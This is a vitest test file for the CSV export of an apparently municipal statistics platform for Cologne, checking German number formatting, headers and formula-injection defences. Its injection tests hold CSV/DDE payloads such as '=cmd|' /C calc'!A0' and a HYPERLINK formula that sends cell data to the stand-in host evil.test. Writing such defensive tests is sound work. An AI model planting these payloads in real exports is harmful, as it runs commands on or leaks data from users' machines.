import { describe, expect, it } from 'vitest';
import { perturbationNote } from '../adapters/indicators.catalogue.js';
import type { AreaSource, AreaView } from '../sources.js';
import { koelnAreas } from '../testing/koeln.fixture.js';
import { testGateway } from '../testing/gateway.fixture.js';
import { formatCell, toCsv } from './csv.js';

describe('CSV for Excel and Power BI', () => {
  it('formats cells German-style and defuses formulas', () => {
    expect(formatCell(1234.5)).toBe('1234,5');
    expect(formatCell(1044555)).toBe('1044555');
    expect(formatCell(0.000123)).toBe('0,000123');
    expect(formatCell(-2.5)).toBe('-2,5');
    expect(formatCell(null)).toBe('');
    expect(formatCell(true)).toBe('ja');
    expect(formatCell('Altstadt/Süd')).toBe('Altstadt/Süd');
    expect(formatCell('a;b')).toBe('"a;b"');
    expect(formatCell('say "hi"\n')).toBe('"say ""hi""\n"');
    expect(formatCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(toCsv(['A', 'B'], [[1.5, 'x']])).toBe('\uFEFFA;B\r\n1,5;x\r\n');
  });

  it('neutralises formula-leading text cells (OWASP CSV injection)', () => {
    const payloads = ["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.test/?x="&A1,"Klick")', '+cmd|x', '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1', '\uFF1D1+1'];
    for (const p of payloads) {
      const cell = formatCell(p);
      // the value as a spreadsheet reads it: unquoted, "" unescaped
      const value = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      expect(value, p).toBe(`'${p}`);
    }
    // numbers stay numbers, text that merely contains a sign stays as it is
    expect(formatCell(-3)).toBe('-3');
    expect(formatCell('Köln-Mülheim')).toBe('Köln-Mülheim');
    // a payload cannot open a new cell or row
    expect(formatCell("x;=cmd|' /C calc'!A0")).toBe(`"x;=cmd|' /C calc'!A0"`);
  });

  it('neutralises formula names that arrive in exported data (an area named like a formula)', async () => {
    const base = koelnAreas();
    const evil = (a: AreaView): AreaView => (a.code === '101' ? { ...a, name: "=cmd|' /C calc'!A0" } : a.code === '102' ? { ...a, name: '=HYPERLINK("https://evil.test","x")' } : a);
    const areas: AreaSource = {
      levels: () => base.levels(),
      areas: (level) => base.areas(level).map(evil),
      area: (level, code) => {
        const a = base.area(level, code);
        return a && evil(a);
      },
      geometry: (level, code) => base.geometry(level, code),
    };
    const { get } = testGateway({ areas });
    const text = await (await get('/export/indicator-values.csv?indicator=einwohner&level=STADTTEIL&period=2012&areas=101,102')).text();
    const names = text
      .split('\r\n')
      .slice(1, 3)
      .map((l) => l.split(';')[5]);
    expect(names).toEqual([`'=cmd|' /C calc'!A0`, `"'=HYPERLINK(""https://evil.test"",""x"")"`]);
    expect(text).not.toMatch(/(^|;|\n)=/);
  });

  it('exports indicator values with BOM, German headers, semicolons and decimal comma', async () => {
    const { get } = testGateway();
    const res = await get('/export/indicator-values.csv?indicator=sgb2_quote&level=STADTTEIL&period=2012');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="sgb2_quote_STADTTEIL.csv"');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
    const lines = text.split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe(
      'Indikator;Indikatorname;Einheit;Ebene;Gebietsschlüssel;Gebiet;Zeitraum;Wert;Zähler;Nenner;Gesperrt;Sperrgrund;Synthetisch;Stand;Definitionsversion;Quelle;Hinweis;Herkunft;Werttyp',
    );
    expect(lines).toHaveLength(86 + 2);
    const neustadtNord = lines.find((l) => l.includes(';104;'))!.split(';');
    expect(neustadtNord[5]).toBe('Neustadt/Nord');
    expect(neustadtNord[7]).toMatch(/^\d,\d+$/); // a rate with decimal comma
    expect(neustadtNord[12]).toBe('ja'); // synthetic
    expect(neustadtNord[15]).toContain('synthetisch');
    // a confidential figure tells the public in one sentence that it is perturbed
    expect(neustadtNord[16]).toBe(perturbationNote);
    // computed by the platform from counts, not delivered as published (issue 15.3)
    expect(neustadtNord.slice(17, 19)).toEqual(['berechnet', 'Rate']);
    const altstadt = lines.find((l) => l.includes(';101;'))!.split(';');
    expect(altstadt.slice(7, 12)).toEqual(['', '', '', 'ja', 'abgeleitet aus gesperrtem Wert']);
  });

  it('exports series, rankings, comparisons and index values through the same rules', async () => {
    const { get } = testGateway();
    const series = await (await get('/export/time-series.csv?indicator=einwohner&level=STADTTEIL&code=101&from=2005&to=2012')).text();
    expect(series.split('\r\n').filter(Boolean)).toHaveLength(9);
    const ranking = await (await get('/export/ranking.csv?indicator=einwohner&level=STADTTEIL&period=2012&first=3')).text();
    expect(ranking.split('\r\n')[1]).toMatch(/^1;einwohner;/);
    const comparison = await (await get('/export/comparison.csv?indicator=einwohner&level=STADTTEIL&code=101&period=2012')).text();
    expect(
      comparison
        .split('\r\n')
        .filter(Boolean)
        .map((l) => l.split(';')[0]),
    ).toEqual(['Vergleich', 'Gebiet', 'Übergeordnetes Gebiet', 'Stadt']);
    const index = await (await get('/export/index-values.csv?index=sozialindex&level=STADTTEIL&period=2012')).text();
    expect(index).toContain(';104;Neustadt/Nord;2012;-1,4;hoch;ja;');
  });

  it('rejects bad parameters with 400 and names them', async () => {
    const { get } = testGateway();
    const res = await get('/export/indicator-values.csv?indicator=einwohner&level=KREIS&period=2012');
    expect(res.status).toBe(400);
    // a level the spatial reference does not have names the levels it has
    expect(await res.json()).toMatchObject({ errors: [{ message: expect.stringContaining('STADT, STADTBEZIRK, STADTTEIL, STADTVIERTEL, SOZIALRAUM'), extensions: { code: 'UNKNOWN_AREA_LEVEL' } }] });
    const malformed = await get('/export/indicator-values.csv?indicator=einwohner&level=stadt%20teil&period=2012');
    expect(malformed.status).toBe(400);
    expect(await malformed.json()).toMatchObject({ errors: [{ message: expect.stringContaining('level'), extensions: { code: 'BAD_USER_INPUT' } }] });
    expect((await get('/export/nothing.csv')).status).toBe(404);
  });
});
